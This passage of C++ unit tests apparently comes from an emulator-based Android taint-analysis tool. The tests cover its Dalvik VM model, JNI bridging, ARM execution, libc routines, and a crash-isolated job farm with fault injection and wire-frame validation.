      dvm_.define_native(cls, "id", "LL", kAccPublic | kAccStatic, fn);

  Object* str = dvm_.new_string("payload");
  u32 native_saw = 0;
  cpu_.add_branch_hook([&](arm::Cpu& c, GuestAddr, GuestAddr to) {
    if (to == fn) native_saw = c.state().regs[2];
  });
  const Slot r = dvm_.call(*m, {Slot{str->addr(), 0}});
  // The native side must have seen an indirect ref, not the direct pointer.
  EXPECT_NE(native_saw, str->addr());
  EXPECT_TRUE(dvm_.irt().is_valid(native_saw));
  // And the bridge converted the returned iref back to a direct pointer.
  EXPECT_EQ(r.value, str->addr());
}

TEST_F(DvmFixture, CallMethodAStubRunsJavaFromNative) {
  // A Java method int sum3(int a, int b, int c).
  ClassObject* cls = dvm_.define_class("LCb;");
  CodeBuilder cb;
  cb.add(0, 2, 3).add(0, 0, 4).return_value(0);
  Method* m = dvm_.define_method(cls, "sum3", "IIII",
                                 kAccPublic | kAccStatic, 5, cb.take());

  // Native-side argument array (3 jvalues) and a JValue result.
  const GuestAddr args = dvm_.data_alloc(12);
  const GuestAddr result = dvm_.data_alloc(8);
  mem_.write32(args, 10);
  mem_.write32(args + 4, 20);
  mem_.write32(args + 8, 12);
  cpu_.call_function(dvm_.call_method_stub('A'),
                     {m->guest_addr, 0, result, args});
  EXPECT_EQ(mem_.read32(result), 42u);
}

TEST_F(DvmFixture, CallMethodClearsIncomingTaints) {
  // Taints do NOT follow native->Java calls without NDroid (the case 1'/3
  // under-tainting): a Java method receiving args from native sees clear
  // taint slots even though the Java method forwards them.
  ClassObject* cls = dvm_.define_class("LClr;");
  CodeBuilder cb;
  cb.return_value(2);
  Method* m =
      dvm_.define_method(cls, "id", "II", kAccPublic | kAccStatic, 3,
                         cb.take());
  const GuestAddr args = dvm_.data_alloc(4);
  const GuestAddr result = dvm_.data_alloc(8);
  mem_.write32(args, 1234);
  cpu_.call_function(dvm_.call_method_stub('V'),
                     {m->guest_addr, 0, result, args});
  EXPECT_EQ(mem_.read32(result), 1234u);
  EXPECT_EQ(dvm_.retval().taint, kTaintClear);
}

TEST_F(DvmFixture, MultilevelChainVisibleInBranchEvents) {
  // dvmCallMethodA -> dvmInterpret must be a guest-level branch (T3 of the
  // multilevel hooking chain, Fig. 5).
  ClassObject* cls = dvm_.define_class("LChain;");
  CodeBuilder cb;
  cb.return_void();
  Method* m = dvm_.define_method(cls, "cb", "V", kAccPublic | kAccStatic, 1,
                                 cb.take());
  const GuestAddr call_a = dvm_.call_method_stub('A');
  const GuestAddr interp = dvm_.sym("dvmInterpret");
  bool saw_t3 = false;
  cpu_.add_branch_hook([&](arm::Cpu&, GuestAddr from, GuestAddr to) {
    if (to == interp && from >= call_a && from < call_a + 0x40) {
      saw_t3 = true;
    }
  });
  const GuestAddr result = dvm_.data_alloc(8);
  cpu_.call_function(call_a, {m->guest_addr, 0, result, 0});
  EXPECT_TRUE(saw_t3);
}

TEST_F(DvmFixture, IndirectRefTableBasics) {
  Object* a = dvm_.new_string("a");
  Object* b = dvm_.new_string("b");
  const IndirectRef ra = dvm_.irt().add(a);
  const IndirectRef rb = dvm_.irt().add(b);
  EXPECT_NE(ra, rb);
  EXPECT_EQ(dvm_.irt().decode(ra), a);
  EXPECT_EQ(dvm_.irt().decode(rb), b);
  EXPECT_EQ(dvm_.irt().find(a), ra);

  dvm_.irt().remove(ra);
  EXPECT_FALSE(dvm_.irt().is_valid(ra));
  EXPECT_THROW((void)dvm_.irt().decode(ra), GuestFault);

  // Slot reuse bumps the serial: the stale handle stays invalid.
  Object* c = dvm_.new_string("c");
  const IndirectRef rc = dvm_.irt().add(c);
  EXPECT_NE(rc, ra);
  EXPECT_FALSE(dvm_.irt().is_valid(ra));
  EXPECT_EQ(dvm_.irt().decode(rc), c);
}

TEST_F(DvmFixture, GcMovesObjectsButIrtSurvives) {
  Object* a = dvm_.new_string("first");
  Object* b = dvm_.new_string("second");
  const GuestAddr old_a = a->addr();
  const GuestAddr old_b = b->addr();
  const IndirectRef rb = dvm_.irt().add(b);
  dvm_.heap().set_object_taint(*b, kTaintContacts);

  const u32 moved = dvm_.run_gc();
  // The semi-space GC evacuates every object: all direct pointers change.
  EXPECT_GE(moved, 2u);
  EXPECT_NE(a->addr(), old_a);
  EXPECT_NE(b->addr(), old_b);
  // ...but indirect references, content, and the in-object taint survive.
  EXPECT_EQ(dvm_.irt().decode(rb), b);
  EXPECT_EQ(dvm_.heap().read_string(*b), "second");
  EXPECT_EQ(dvm_.heap().object_taint(*b), kTaintContacts);
  // A stale direct pointer no longer resolves to the object.
  EXPECT_EQ(dvm_.heap().object_at(old_b), nullptr);
}

TEST_F(DvmFixture, PendingExceptionMoveException) {
  ClassObject* cls = dvm_.define_class("LExc;");
  CodeBuilder cb;
  cb.move_exception(0).return_value(0);
  Method* m = dvm_.define_method(cls, "f", "L", kAccPublic | kAccStatic, 1,
                                 cb.take());
  Object* exc = dvm_.new_string("boom");
  dvm_.pending_exception = exc;
  const Slot r = dvm_.call(*m, {});
  EXPECT_EQ(r.value, exc->addr());
  EXPECT_EQ(dvm_.pending_exception, nullptr);
}

TEST_F(DvmFixture, DivisionByZeroFaults) {
  ClassObject* cls = dvm_.define_class("LDiv;");
  CodeBuilder cb;
  cb.binop(DOp::kDiv, 0, 2, 3).return_value(0);
  Method* m = dvm_.define_method(cls, "div", "III",
                                 kAccPublic | kAccStatic, 4, cb.take());
  EXPECT_THROW(dvm_.call(*m, {Slot{1, 0}, Slot{0, 0}}), GuestFault);
}

TEST_F(DvmFixture, FieldIdRoundTrip) {
  ClassObject* cls = dvm_.define_class("LFid;");
  cls->add_instance_field("x", 'I');
  cls->add_static_field("s", 'L');
  const GuestAddr fx = dvm_.field_id(cls, "x", false);
  const GuestAddr fs = dvm_.field_id(cls, "s", true);
  EXPECT_NE(fx, fs);
  EXPECT_EQ(dvm_.field_id(cls, "x", false), fx);  // cached
  const auto rx = dvm_.decode_field_id(fx);
  EXPECT_EQ(rx.field->name, "x");
  EXPECT_FALSE(rx.is_static);
  const auto rs = dvm_.decode_field_id(fs);
  EXPECT_TRUE(rs.is_static);
  EXPECT_THROW(dvm_.field_id(cls, "nope", false), GuestFault);
}

TEST_F(DvmFixture, BytecodeCounterAndObserver) {
  ClassObject* cls = dvm_.define_class("LCount;");
  CodeBuilder cb;
  cb.const_imm(0, 1).const_imm(1, 2).add(0, 0, 1).return_value(0);
  Method* m = dvm_.define_method(cls, "f", "I", kAccPublic | kAccStatic, 2,
                                 cb.take());
  u64 observed = 0;
  dvm_.set_dvm_insn_observer(
      [&](const Method&, const DInsn&) { ++observed; });
  const u64 before = dvm_.bytecodes_executed();
  dvm_.call(*m, {});
  EXPECT_EQ(dvm_.bytecodes_executed() - before, 4u);
  EXPECT_EQ(observed, 4u);
}

TEST_F(DvmFixture, StringObjectGuestLayout) {
  Object* s = dvm_.new_string("hello");
  dvm_.heap().set_object_taint(*s, 0x202);
  // [taint][len][bytes]
  EXPECT_EQ(mem_.read32(s->addr()), 0x202u);
  EXPECT_EQ(mem_.read32(s->addr() + 4), 5u);
  EXPECT_EQ(mem_.read_cstr(s->addr() + 8), "hello");
  EXPECT_EQ(dvm_.heap().object_taint(*s), 0x202u);
}

TEST_F(DvmFixture, MafStubsAllocateObjects) {
  // dvmCreateStringFromCstr through the guest stub, as NewStringUTF uses it.
  const GuestAddr cstr = dvm_.data_cstr("http://sync.3g.qq.com/xpimlogin");
  const u32 real_addr =
      cpu_.call_function(dvm_.sym("dvmCreateStringFromCstr"), {cstr});
  Object* obj = dvm_.heap().object_at(real_addr);
  ASSERT_NE(obj, nullptr);
  EXPECT_EQ(obj->utf(), "http://sync.3g.qq.com/xpimlogin");

  const u32 arr_addr =
      cpu_.call_function(dvm_.sym("dvmAllocPrimitiveArray"), {1, 16});
  Object* arr = dvm_.heap().object_at(arr_addr);
  ASSERT_NE(arr, nullptr);
  EXPECT_EQ(arr->length(), 16u);
  EXPECT_EQ(arr->elem_size(), 1u);
}

TEST_F(DvmFixture, DecodeIndirectRefStub) {
  Object* s = dvm_.new_string("x");
  const IndirectRef ref = dvm_.irt().add(s);
  const u32 direct =
      cpu_.call_function(dvm_.sym("dvmDecodeIndirectRef"), {ref});
  EXPECT_EQ(direct, s->addr());
}

}  // namespace
}  // namespace ndroid::dvm
