// Fault-injection battery for the crash-isolated process farm
// (src/farm/process_pool): a job that abort()s, SIGKILLs its zygote, or
// blows its deadline must cost exactly that job — retried once, then marked
// failed — while every other job's outcome stays bit-identical to a clean
// run. Also covers the framed wire protocol the supervisor trusts: torn,
// truncated, and bit-flipped frames must be rejected, never decoded.
#include <gtest/gtest.h>

#include <fcntl.h>
#include <signal.h>
#include <unistd.h>

#include <cstdlib>
#include <sstream>
#include <string>
#include <vector>

#include "common/serde.h"
#include "farm/farm.h"
#include "farm/process_pool.h"
#include "farm/providers.h"

// The fork-based pool is incompatible with TSan's runtime (its background
// thread makes every fork a multithreaded fork); the supervisor/channel
// paths still get TSan coverage through the thread-mode farm tests.
#if defined(__has_feature)
#if __has_feature(thread_sanitizer)
#define NDROID_NO_FORK_TESTS 1
#endif
#endif
#if !defined(NDROID_NO_FORK_TESTS) && defined(__SANITIZE_THREAD__)
#define NDROID_NO_FORK_TESTS 1
#endif

#ifdef NDROID_NO_FORK_TESTS
#define SKIP_IF_NO_FORK() \
  GTEST_SKIP() << "fork-based process pool tests skipped under TSan"
#else
#define SKIP_IF_NO_FORK() (void)0
#endif

namespace ndroid {
namespace {

std::vector<farm::JobSpec> fault_mix() {
  std::vector<farm::JobSpec> jobs = farm::table1_jobs();
  for (u32 i = 0; i < static_cast<u32>(jobs.size()); ++i) jobs[i].id = i;
  return jobs;
}

/// The id of the job the fault hooks target (a middle job, so failures
/// can't hide behind batch-edge effects).
u32 target_id(const std::vector<farm::JobSpec>& jobs) {
  return jobs[jobs.size() / 2].id;
}

const std::string& target_name(const std::vector<farm::JobSpec>& jobs) {
  return jobs[jobs.size() / 2].name;
}

/// Drops the digest line of job `id`, leaving every other job's outcome for
/// byte-comparison against a clean run.
std::string digest_without(const std::string& digest, u32 id) {
  std::istringstream in(digest);
  std::ostringstream out;
  std::string line;
  const std::string prefix = "#" + std::to_string(id) + " ";
  while (std::getline(in, line)) {
    if (line.rfind(prefix, 0) != 0) out << line << '\n';
  }
  return out.str();
}

std::string make_temp_dir() {
  char tmpl[] = "/tmp/ndroid_faults_XXXXXX";
  const char* dir = ::mkdtemp(tmpl);
  EXPECT_NE(dir, nullptr);
  return dir;
}

const farm::JobResult* find_job(const farm::FarmReport& report, u32 id) {
  for (const farm::JobResult& r : report.results) {
    if (r.spec.id == id) return &r;
  }
  return nullptr;
}

std::string clean_digest(const std::vector<farm::JobSpec>& jobs) {
  farm::FarmOptions serial;
  return farm::run_farm(jobs, serial).leak_digest();
}

TEST(FarmFaults, AbortingJobIsRetriedOnceAndSucceeds) {
  SKIP_IF_NO_FORK();
  const std::vector<farm::JobSpec> jobs = fault_mix();
  const std::string reference = clean_digest(jobs);

  // The fault must strike exactly one attempt. The hook runs in a freshly
  // forked job process whose memory dies with it, so the "already fired"
  // bit lives on the filesystem: O_EXCL creation is atomic and visible to
  // every later attempt regardless of which worker runs it.
  const std::string marker = make_temp_dir() + "/fired";
  const std::string victim = target_name(jobs);
  farm::FarmOptions opts;
  opts.processes = 2;
  opts.fault_hook = [marker, victim](const farm::JobSpec& spec) {
    if (spec.name != victim) return;
    const int fd = ::open(marker.c_str(), O_CREAT | O_EXCL | O_WRONLY, 0644);
    if (fd >= 0) {
      ::close(fd);
      std::abort();
    }
  };

  const farm::FarmReport report = farm::run_farm(jobs, opts);
  EXPECT_EQ(report.failures, 0u);
  EXPECT_EQ(report.retries, 1u);
  EXPECT_GE(report.worker_deaths, 1u);
  // The crash cost nothing observable: the full digest (including the
  // retried job) matches the clean serial run.
  EXPECT_EQ(report.leak_digest(), reference);

  const farm::JobResult* victim_result = find_job(report, target_id(jobs));
  ASSERT_NE(victim_result, nullptr);
  EXPECT_TRUE(victim_result->ok) << victim_result->error;
  EXPECT_EQ(victim_result->retries, 1u);
}

TEST(FarmFaults, PersistentlyCrashingJobIsMarkedFailedOthersUnaffected) {
  SKIP_IF_NO_FORK();
  const std::vector<farm::JobSpec> jobs = fault_mix();
  const std::string reference = clean_digest(jobs);
  const u32 victim_id = target_id(jobs);

  const std::string victim = target_name(jobs);
  farm::FarmOptions opts;
  opts.processes = 2;
  opts.fault_hook = [victim](const farm::JobSpec& spec) {
    if (spec.name == victim) std::abort();
  };

  const farm::FarmReport report = farm::run_farm(jobs, opts);
  EXPECT_EQ(report.failures, 1u);
  EXPECT_EQ(report.retries, 1u);         // retried once...
  EXPECT_EQ(report.worker_deaths, 2u);   // ...and both attempts died
  EXPECT_EQ(report.jobs, jobs.size());   // one result per job regardless

  const farm::JobResult* victim_result = find_job(report, victim_id);
  ASSERT_NE(victim_result, nullptr);
  EXPECT_FALSE(victim_result->ok);
  EXPECT_NE(victim_result->error.find("signal"), std::string::npos)
      << victim_result->error;
  EXPECT_EQ(victim_result->retries, 1u);

  // Every surviving job's outcome is bit-identical to the clean run.
  EXPECT_EQ(digest_without(report.leak_digest(), victim_id),
            digest_without(reference, victim_id));
}

TEST(FarmFaults, SigkilledZygoteLosesOnlyItsOwnJob) {
  SKIP_IF_NO_FORK();
  const std::vector<farm::JobSpec> jobs = fault_mix();
  const std::string reference = clean_digest(jobs);
  const u32 victim_id = target_id(jobs);

  // The hook runs in the job (grand-)child; its parent is the zygote
  // worker. SIGKILL gives the zygote no chance to synthesize a death frame
  // — the supervisor must detect the loss from raw EOF on the result pipe,
  // salvage the in-flight job, and respawn the slot.
  const std::string victim = target_name(jobs);
  farm::FarmOptions opts;
  opts.processes = 2;
  opts.fault_hook = [victim](const farm::JobSpec& spec) {
    if (spec.name == victim) ::kill(::getppid(), SIGKILL);
  };

  const farm::FarmReport report = farm::run_farm(jobs, opts);
  EXPECT_EQ(report.failures, 1u);
  EXPECT_EQ(report.retries, 1u);
  EXPECT_GE(report.worker_deaths, 2u);  // both attempts took a zygote down
  EXPECT_EQ(report.jobs, jobs.size());

  const farm::JobResult* victim_result = find_job(report, victim_id);
  ASSERT_NE(victim_result, nullptr);
  EXPECT_FALSE(victim_result->ok);
  EXPECT_NE(victim_result->error.find("worker process died"),
            std::string::npos)
      << victim_result->error;

  EXPECT_EQ(digest_without(report.leak_digest(), victim_id),
            digest_without(reference, victim_id));
}

TEST(FarmFaults, DeadlineExceededJobIsRetriedThenMarkedFailed) {
  SKIP_IF_NO_FORK();
  const std::vector<farm::JobSpec> jobs = fault_mix();
  const std::string reference = clean_digest(jobs);
  const u32 victim_id = target_id(jobs);

  const std::string victim = target_name(jobs);
  farm::FarmOptions opts;
  opts.processes = 2;
  opts.job_timeout_ms = 500;
  opts.fault_hook = [victim](const farm::JobSpec& spec) {
    // pause() burns no CPU while it waits for the SIGALRM the deadline
    // arms; if the deadline machinery were broken this would hang the test
    // rather than silently pass.
    if (spec.name == victim) {
      for (;;) ::pause();
    }
  };

  const farm::FarmReport report = farm::run_farm(jobs, opts);
  EXPECT_EQ(report.failures, 1u);
  EXPECT_EQ(report.retries, 1u);
  EXPECT_EQ(report.worker_deaths, 2u);

  const farm::JobResult* victim_result = find_job(report, victim_id);
  ASSERT_NE(victim_result, nullptr);
  EXPECT_FALSE(victim_result->ok);
  EXPECT_NE(victim_result->error.find("deadline exceeded"), std::string::npos)
      << victim_result->error;

  // Every non-spinning job finished well inside the deadline, unperturbed.
  EXPECT_EQ(digest_without(report.leak_digest(), victim_id),
            digest_without(reference, victim_id));
}

// --- wire protocol hardening (no forks; runs everywhere incl. TSan) ---------

farm::JobResult sample_result() {
  farm::JobResult r;
  r.spec.id = 42;
  r.spec.kind = farm::JobKind::kLeakCase;
  r.spec.name = "case 3";
  r.spec.rep = 1;
  r.spec.monkey_seed = 0xDEADBEEFCAFEull;
  r.spec.native_libs = {"libcrypto.so", "libhello.so"};
  r.ok = true;
  r.checksum = 0x1234;
  r.summary_gate_skips = 99;
  core::NativeLeak nl;
  nl.sink = "sendto";
  nl.destination = "10.0.0.1:80";
  nl.taint = 0x5;
  nl.data = "imei=490154203237518";
  nl.pc = 0x10040;
  r.native_leaks.push_back(nl);
  taintdroid::LeakReport fl;
  fl.sink = "OutputStream.write";
  fl.destination = "socket";
  fl.taint = 0x2;
  fl.data = "lat,long";
  r.framework_leaks.push_back(fl);
  r.timing.setup_ms = 1.5;
  r.timing.static_ms = 2.25;
  r.timing.run_ms = 3.75;
  r.retries = 1;
  r.cache_delta.hits = 7;
  r.cache_delta.store_hits = 3;
  return r;
}

TEST(FarmWire, ResultRoundTripsThroughFrame) {
  const farm::JobResult r = sample_result();
  const std::vector<u8> payload = farm::wire::encode_result(r);
  std::vector<u8> buf =
      farm::wire::encode_frame(farm::wire::kFrameResult, 42, payload);

  const std::optional<farm::wire::Frame> f = farm::wire::take_frame(buf);
  ASSERT_TRUE(f.has_value());
  EXPECT_TRUE(buf.empty());
  EXPECT_EQ(f->type, farm::wire::kFrameResult);
  EXPECT_EQ(f->job_index, 42u);

  const farm::JobResult back = farm::wire::decode_result(f->payload);
  EXPECT_EQ(back.spec.id, r.spec.id);
  EXPECT_EQ(back.spec.name, r.spec.name);
  EXPECT_EQ(back.spec.native_libs, r.spec.native_libs);
  EXPECT_EQ(back.ok, r.ok);
  EXPECT_EQ(back.checksum, r.checksum);
  ASSERT_EQ(back.native_leaks.size(), 1u);
  EXPECT_EQ(back.native_leaks[0].data, "imei=490154203237518");
  ASSERT_EQ(back.framework_leaks.size(), 1u);
  EXPECT_EQ(back.framework_leaks[0].sink, "OutputStream.write");
  EXPECT_EQ(back.timing.static_ms, r.timing.static_ms);
  EXPECT_EQ(back.retries, 1u);
  EXPECT_EQ(back.cache_delta.hits, 7u);
  EXPECT_EQ(back.cache_delta.store_hits, 3u);
}

TEST(FarmWire, TruncatedFrameIsIncompleteNotGarbage) {
  const std::vector<u8> payload = farm::wire::encode_result(sample_result());
  const std::vector<u8> full =
      farm::wire::encode_frame(farm::wire::kFrameResult, 7, payload);

  // Every strict prefix must read as "incomplete" (nullopt) and leave the
  // buffer intact — a job killed mid-write shows up as exactly this.
  for (const std::size_t cut : {std::size_t{0}, std::size_t{4},
                                std::size_t{16}, full.size() - 1}) {
    std::vector<u8> buf(full.begin(), full.begin() + cut);
    EXPECT_EQ(farm::wire::take_frame(buf), std::nullopt) << "cut=" << cut;
    EXPECT_EQ(buf.size(), cut);
  }
}

TEST(FarmWire, CorruptFramesThrow) {
  const std::vector<u8> payload = farm::wire::encode_result(sample_result());

  {  // bad magic
    std::vector<u8> buf =
        farm::wire::encode_frame(farm::wire::kFrameResult, 7, payload);
    buf[0] ^= 0xFF;
    EXPECT_THROW(farm::wire::take_frame(buf), serde::DecodeError);
  }
  {  // bit flip inside the payload breaks the trailing hash
    std::vector<u8> buf =
        farm::wire::encode_frame(farm::wire::kFrameResult, 7, payload);
    buf[20] ^= 0x01;
    EXPECT_THROW(farm::wire::take_frame(buf), serde::DecodeError);
  }
  {  // unknown frame type
    std::vector<u8> buf =
        farm::wire::encode_frame(farm::wire::kFrameResult, 7, payload);
    buf[4] = 0x7F;
    EXPECT_THROW(farm::wire::take_frame(buf), serde::DecodeError);
  }
  {  // absurd payload length never allocates
    std::vector<u8> buf =
        farm::wire::encode_frame(farm::wire::kFrameResult, 7, payload);
    for (int i = 9; i < 17; ++i) buf[i] = 0xFF;
    EXPECT_THROW(farm::wire::take_frame(buf), serde::DecodeError);
  }
}

TEST(FarmWire, DeathInfoRoundTrips) {
  farm::wire::DeathInfo d;
  d.cause = farm::wire::DeathInfo::Cause::kTimeout;
  d.value = 500;
  const farm::wire::DeathInfo back =
      farm::wire::decode_death(farm::wire::encode_death(d));
  EXPECT_EQ(back.cause, farm::wire::DeathInfo::Cause::kTimeout);
  EXPECT_EQ(back.value, 500);

  std::vector<u8> bad = farm::wire::encode_death(d);
  bad[0] = 0x40;  // unknown cause
  EXPECT_THROW((void)farm::wire::decode_death(bad), serde::DecodeError);
}

}  // namespace
}  // namespace ndroid
