#include <gtest/gtest.h>

#include "arm/assembler.h"
#include "arm/cpu.h"

namespace ndroid::arm {
namespace {

class ExecFixture : public ::testing::Test {
 protected:
  static constexpr GuestAddr kCode = 0x10000;
  static constexpr GuestAddr kStackTop = 0x80000;
  static constexpr GuestAddr kData = 0x20000;

  ExecFixture() : cpu_(mem_, map_) {
    map_.add("code", kCode, 0x4000, mem::kRX);
    map_.add("[stack]", 0x70000, 0x10000, mem::kRW);
    map_.add("data", kData, 0x4000, mem::kRW);
    cpu_.set_initial_sp(kStackTop);
  }

  /// Installs the assembled body and runs it as a function.
  u32 run(Assembler& a, const std::vector<u32>& args = {}) {
    const auto code = a.finish();
    mem_.write_bytes(kCode, code);
    return cpu_.call_function(kCode, args);
  }

  mem::AddressSpace mem_;
  mem::MemoryMap map_;
  Cpu cpu_;
};

TEST_F(ExecFixture, AddFunction) {
  Assembler a(kCode);
  a.add(R(0), R(0), R(1));
  a.ret();
  EXPECT_EQ(run(a, {7, 35}), 42u);
}

TEST_F(ExecFixture, FiveArgsUsesStack) {
  // f(a,b,c,d,e) = a+b+c+d+e; fifth arg arrives at [sp].
  Assembler a(kCode);
  a.add(R(0), R(0), R(1));
  a.add(R(0), R(0), R(2));
  a.add(R(0), R(0), R(3));
  a.ldr(R(1), SP, 0);
  a.add(R(0), R(0), R(1));
  a.ret();
  EXPECT_EQ(run(a, {1, 2, 3, 4, 5}), 15u);
}

TEST_F(ExecFixture, SumLoop) {
  // for (i = n; i != 0; --i) acc += i;  returns n(n+1)/2
  Assembler a(kCode);
  a.mov_imm(R(1), 0);  // acc
  Label loop, done;
  a.bind(loop);
  a.cmp_imm(R(0), 0);
  a.b(done, Cond::kEQ);
  a.add(R(1), R(1), R(0));
  a.sub_imm(R(0), R(0), 1);
  a.b(loop);
  a.bind(done);
  a.mov(R(0), R(1));
  a.ret();
  EXPECT_EQ(run(a, {100}), 5050u);
}

TEST_F(ExecFixture, MultiplyAndFlags) {
  Assembler a(kCode);
  a.mul(R(0), R(0), R(1));
  a.ret();
  EXPECT_EQ(run(a, {6, 7}), 42u);
}

TEST_F(ExecFixture, Umull64) {
  // Returns high word of a*b.
  Assembler a(kCode);
  a.umull(R(2), R(3), R(0), R(1));
  a.mov(R(0), R(3));
  a.ret();
  EXPECT_EQ(run(a, {0x80000000u, 4}), 2u);
}

TEST_F(ExecFixture, SignedDivision) {
  Assembler a(kCode);
  a.sdiv(R(0), R(0), R(1));
  a.ret();
  EXPECT_EQ(run(a, {static_cast<u32>(-100), 7}),
            static_cast<u32>(-14));
  // Division by zero yields 0 on ARMv7-A with div insns configured to not trap.
  Assembler b(kCode);
  b.sdiv(R(0), R(0), R(1));
  b.ret();
  EXPECT_EQ(run(b, {5, 0}), 0u);
}

TEST_F(ExecFixture, LoadStoreBytesAndWords) {
  Assembler a(kCode);
  a.mov_imm32(R(1), kData);
  a.str(R(0), R(1), 0);
  a.ldrb(R(2), R(1), 0);
  a.ldrb(R(3), R(1), 3);
  a.lsl(R(3), R(3), 8);
  a.orr(R(0), R(2), R(3));
  a.ret();
  // value 0xAABBCCDD: byte0 = DD, byte3 = AA -> 0xAADD
  EXPECT_EQ(run(a, {0xAABBCCDD}), 0xAADDu);
}

TEST_F(ExecFixture, SignExtendingLoads) {
  Assembler a(kCode);
  a.mov_imm32(R(1), kData);
  a.strb(R(0), R(1), 0);
  a.ldrsb(R(0), R(1), 0);
  a.ret();
  EXPECT_EQ(run(a, {0x80}), 0xFFFFFF80u);

  Assembler b(kCode);
  b.mov_imm32(R(1), kData);
  b.strh(R(0), R(1), 0);
  b.ldrsh(R(0), R(1), 0);
  b.ret();
  EXPECT_EQ(run(b, {0x8000}), 0xFFFF8000u);
}

TEST_F(ExecFixture, PostIndexedWalk) {
  // Sums 4 bytes using ldrb r2, [r1], #1.
  Assembler a(kCode);
  a.mov_imm32(R(1), kData);
  a.mov_imm(R(0), 0);
  for (int i = 0; i < 4; ++i) {
    a.ldrb_post(R(2), R(1), 1);
    a.add(R(0), R(0), R(2));
  }
  a.ret();
  mem_.write8(kData + 0, 10);
  mem_.write8(kData + 1, 20);
  mem_.write8(kData + 2, 30);
  mem_.write8(kData + 3, 40);
  EXPECT_EQ(run(a), 100u);
}

TEST_F(ExecFixture, PushPopPreservesValues) {
  Assembler a(kCode);
  a.mov_imm(R(4), 0x11);
  a.mov_imm(R(5), 0x22);
  a.push({R(4), R(5), LR});
  a.mov_imm(R(4), 0);
  a.mov_imm(R(5), 0);
  a.pop({R(4), R(5), LR});
  a.add(R(0), R(4), R(5));
  a.ret();
  EXPECT_EQ(run(a), 0x33u);
}

TEST_F(ExecFixture, PopPcReturns) {
  Assembler a(kCode);
  a.push({LR});
  a.mov_imm(R(0), 99);
  a.pop({PC});
  EXPECT_EQ(run(a), 99u);
}

TEST_F(ExecFixture, NestedCallViaBl) {
  // main: bl helper; add 1; ret.   helper: mov r0, #41; ret
  Assembler a(kCode);
  Label helper;
  a.push({LR});
  a.bl(helper);
  a.add_imm(R(0), R(0), 1);
  a.pop({PC});
  a.bind(helper);
  a.mov_imm(R(0), 41);
  a.ret();
  EXPECT_EQ(run(a), 42u);
}

TEST_F(ExecFixture, ConditionalExecutionGE) {
  // max(a, b)
  Assembler a(kCode);
  a.cmp(R(0), R(1));
  a.mov_imm(R(2), 0);
  Label done;
  a.b(done, Cond::kGE);
  a.mov(R(0), R(1));
  a.bind(done);
  a.ret();
  EXPECT_EQ(run(a, {5, 9}), 9u);
  Assembler b(kCode);
  b.cmp(R(0), R(1));
  Label done2;
  b.b(done2, Cond::kGE);
  b.mov(R(0), R(1));
  b.bind(done2);
  b.ret();
  EXPECT_EQ(run(b, {static_cast<u32>(-3), static_cast<u32>(-9)}),
            static_cast<u32>(-3));
}

TEST_F(ExecFixture, CarryChainAdc64) {
  // 64-bit add of (r0:r1) + (r2:r3) -> returns high word.
  Assembler a(kCode);
  a.add(R(0), R(0), R(2), /*s=*/true);
  a.adc(R(1), R(1), R(3));
  a.mov(R(0), R(1));
  a.ret();
  EXPECT_EQ(run(a, {0xFFFFFFFFu, 0, 1, 0}), 1u);
  Assembler b(kCode);
  b.add(R(0), R(0), R(2), true);
  b.adc(R(1), R(1), R(3));
  b.mov(R(0), R(1));
  b.ret();
  EXPECT_EQ(run(b, {0xFFFFFFFEu, 5, 1, 2}), 7u);
}

TEST_F(ExecFixture, ShiftsAndClz) {
  Assembler a(kCode);
  a.lsr(R(0), R(0), 4);
  a.ret();
  EXPECT_EQ(run(a, {0xF0}), 0xFu);

  Assembler b(kCode);
  b.asr(R(0), R(0), 1);
  b.ret();
  EXPECT_EQ(run(b, {0x80000000u}), 0xC0000000u);

  Assembler c(kCode);
  c.clz(R(0), R(0));
  c.ret();
  EXPECT_EQ(run(c, {0x00010000u}), 15u);
}

TEST_F(ExecFixture, MemcpyInGuestAsm) {
  // memcpy(dst=r0, src=r1, n=r2), byte loop; returns dst.
  Assembler a(kCode);
  a.mov(R(3), R(0));
  Label loop, done;
  a.bind(loop);
  a.cmp_imm(R(2), 0);
  a.b(done, Cond::kEQ);
  a.ldrb_post(R(12), R(1), 1);
  a.strb_post(R(12), R(3), 1);
  a.sub_imm(R(2), R(2), 1);
  a.b(loop);
  a.bind(done);
  a.ret();

  mem_.write_cstr(kData, "sensitive-imei-35123");
  const u32 r = run(a, {kData + 0x100, kData, 21});
  EXPECT_EQ(r, kData + 0x100);
  EXPECT_EQ(mem_.read_cstr(kData + 0x100), "sensitive-imei-35123");
}

TEST_F(ExecFixture, GuestFaultOnUndefined) {
  Assembler a(kCode);
  a.word(0xE7F000F0);  // permanently undefined
  const auto code = a.finish();
  mem_.write_bytes(kCode, code);
  EXPECT_THROW(cpu_.call_function(kCode), GuestFault);
}

TEST_F(ExecFixture, RetiredCountsInstructions) {
  Assembler a(kCode);
  a.nop();
  a.nop();
  a.ret();
  const auto code = a.finish();
  mem_.write_bytes(kCode, code);
  const u64 before = cpu_.instructions_retired();
  cpu_.call_function(kCode);
  EXPECT_EQ(cpu_.instructions_retired() - before, 3u);
}

}  // namespace
}  // namespace ndroid::arm
