#include <gtest/gtest.h>

#include <cmath>

#include "libc/libc.h"

namespace ndroid::libc {
namespace {

class LibcFixture : public ::testing::Test {
 protected:
  static constexpr GuestAddr kData = 0x20000;

  LibcFixture()
      : cpu_(mem_, map_),
        kernel_(mem_, map_),
        libc_(cpu_, kernel_, 0x40100000, 0x20000, 0x40200000, 0x10000) {
    map_.add("data", kData, 0x8000, mem::kRW);
    map_.add("[stack]", 0xBE000000, 0x100000, mem::kRW);
    cpu_.set_initial_sp(0xBE100000);
    kernel_.attach(cpu_);
  }

  u32 call(const std::string& name, const std::vector<u32>& args) {
    return cpu_.call_function(libc_.fn(name), args);
  }

  GuestAddr put_str(GuestAddr at, std::string_view s) {
    mem_.write_cstr(at, s);
    return at;
  }

  mem::AddressSpace mem_;
  mem::MemoryMap map_;
  arm::Cpu cpu_;
  os::Kernel kernel_;
  Libc libc_;
};

TEST_F(LibcFixture, Memcpy) {
  put_str(kData, "sensitive");
  EXPECT_EQ(call("memcpy", {kData + 0x100, kData, 10}), kData + 0x100);
  EXPECT_EQ(mem_.read_cstr(kData + 0x100), "sensitive");
}

TEST_F(LibcFixture, MemmoveOverlapBothDirections) {
  put_str(kData, "abcdef");
  // Forward-overlap (dst > src) must copy backward.
  call("memmove", {kData + 2, kData, 6});
  EXPECT_EQ(mem_.read_cstr(kData), "ababcdef");
  put_str(kData + 0x100, "123456");
  // dst < src
  call("memmove", {kData + 0xFE, kData + 0x100, 7});
